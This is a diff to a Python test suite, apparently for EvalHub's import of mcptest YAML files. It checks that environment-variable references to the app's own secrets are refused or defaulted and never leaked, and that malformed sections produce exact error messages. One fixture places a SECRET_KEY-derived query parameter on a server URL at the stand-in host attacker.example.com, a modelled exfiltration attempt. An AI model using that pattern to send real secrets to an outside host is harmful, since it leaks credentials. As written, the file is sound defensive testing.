@@ -53,9 +53,14 @@ class FromEnvTests:
             response = _import(admin_api, text, dry_run=dry_run)
             error = assert_error(response, 400, "VALIDATION_ERROR")
             pointers = [problem["pointer"] for problem in error["details"]["problems"]]
-            assert pointers == ["/servers/s/url", "/agents/0/prompt"]  # in file order
+            assert pointers == ["/servers/s/url"]
             body = response.content.decode()
-            assert "from_env" in error["message"] and SECRET not in body and DSN not in body
+            assert "SECRET_KEY" in error["message"] and SECRET not in body and DSN not in body
+        # A prompt reads its variable when the run starts: one of EvalHub's own settings is refused at apply.
+        text = VARIABLES + SERVER.format(query="", header="plain") + AGENT.format(prompt="Say ${t}")
+        error = assert_error(_import(admin_api, text, dry_run=True), 400, "VALIDATION_ERROR")
+        assert [problem["pointer"] for problem in error["details"]["problems"]] == ["/scenarios/0/variables/t/env"]
+        assert "${DATABASE_URL} names one of EvalHub's own settings" in error["message"]
         assert not McpServer.objects.exists() and not Scenario.objects.exists()
 
     def test_a_setting_as_a_header_is_a_reference_the_allowlist_refuses(
@@ -94,12 +99,11 @@ class FromEnvTests:
         self, alice: User, admin_api: Client, environment: None
     ) -> None:
         variables = "variables:\n  k: {from_env: SECRET_KEY, default: public}\n"
-        text = variables + SERVER.format(query="?k=${k}", header="plain") + AGENT.format(prompt="Say ${k}")
+        text = variables + SERVER.format(query="?k=${k}", header="plain") + AGENT.format(prompt="Say hi")
         response = _import(admin_api, text, dry_run=False)
         assert response.status_code == 200, response.content
         body = response.content.decode()
         assert McpServer.objects.get(name="s").url == "https://attacker.example.com/mcp?k=public"
-        assert Scenario.objects.get().prompt == "Say public"
         assert SECRET not in body + _stored()
 
 
@@ -216,20 +220,26 @@ class SectionShapeTests:
         ("text", "line", "pointer", "message"),
         [
             ("servers: [1]\n", 1, "/servers", "expected a mapping, got a list"),
-            ("providers: true\n", 1, "/providers", "expected a mapping, got a boolean"),
-            ("variables: 5\n", 1, "/variables", "expected a mapping, got an integer"),
-            ("agents: 5\n", 1, "/agents", "expected a list, got an integer"),
-            ("tools: [5]\n", 1, "/tools/0", "expected a mapping, got an integer"),
-            ("agents:\n- {prompt: hi, servers: [1]}\n", 2, "/agents/0/servers/0", "expected a string, got an integer"),
+            ("providers: true\n", 1, "/providers", "expected a mapping, got a boolean true"),
+            ("variables: 5\n", 1, "/variables", "expected a mapping, got an integer 5"),
+            ("agents: 5\n", 1, "/agents", "expected a list, got an integer 5"),
+            ("tools: [5]\n", 1, "/tools/0", "expected a mapping, got an integer 5"),
+            (
+                "agents:\n- {prompt: hi, servers: [1]}\n",
+                2,
+                "/agents/0/servers/0",
+                "expected a string, got an integer 1",
+            ),
             ("servers:\n  s:\n    headers: {X: {a: 1}}\n", 3, "/servers/s/headers/X", 'missing required key "env"'),
-            ("evals:\n- {rubric: {criteria: 5}}\n", 2, "/evals/0/rubric/criteria", "expected a list, got an integer"),
-            ("- 1\n", 1, "", "an mcptest suite is a mapping of sections (servers, agents, tools, evals…)"),
+            ("evals:\n- {rubric: {criteria: 5}}\n", 2, "/evals/0/rubric/criteria", "expected a list, got an integer 5"),
+            ("- 1\n", 1, "", "an mcptest file is a mapping with servers: and tests (tools, agents, evals…)"),
         ],
     )
     def test_an_mcptest_section(self, admin_api: Client, text: str, line: int, pointer: str, message: str) -> None:
         error = assert_error(_import(admin_api, text, dry_run=True), 400, "VALIDATION_ERROR")
-        assert error["details"]["problems"] == [
-            {"file": "third-party.yaml", "line": line, "pointer": pointer, "message": message}
+        # mcptest's schema refuses the whole file: this problem is among its others (no servers: in most of them).
+        assert {"file": "third-party.yaml", "line": line, "pointer": pointer, "message": message} in error["details"][
+            "problems"
         ]
 
     def test_evalhub_validate_prints_the_place(self, db: None, tmp_path: Path) -> None:
